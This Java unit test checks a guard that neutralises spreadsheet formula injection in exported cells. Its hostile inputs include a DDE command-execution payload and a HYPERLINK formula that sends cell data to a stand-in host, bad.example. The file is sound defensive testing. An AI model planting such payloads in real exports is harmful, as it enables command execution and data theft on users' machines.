package vn.guongsang.kit.table.write;

import static org.junit.jupiter.api.Assertions.assertEquals;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class FormulaGuardTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "+84 234 382 2382",
                "-2+3",
                "@SUM(1)",
                "=cmd|' /C calc'!A0",
                "=HYPERLINK(\"http://bad.example?\"&A1,\"x\")",
                "\t=1",
                "\tplain",
                "\rplain",
                "\nplain",
                "  =1",
                "\u00a0=1",
                "\u3000=1",
                "\u200b=1",
                "\ufeff=1",
                "\uff1d1",
                "\uff0b1",
                "\uff0d1",
                "\uff201",
                "=",
                "-"
            })
    void aTextThatCouldBeAFormulaGetsAnApostrophe(String hostile) {
        assertEquals("'" + hostile, FormulaGuard.neutral(hostile));
    }

    @ParameterizedTest
    @ValueSource(strings = {"", " ", "a=b", "Thuỷ", "7 - 8", "'=1", "(-1)", "1e5", "a\n=b"})
    void anyOtherTextStaysAsItIs(String harmless) {
        assertEquals(harmless, FormulaGuard.neutral(harmless));
    }
}
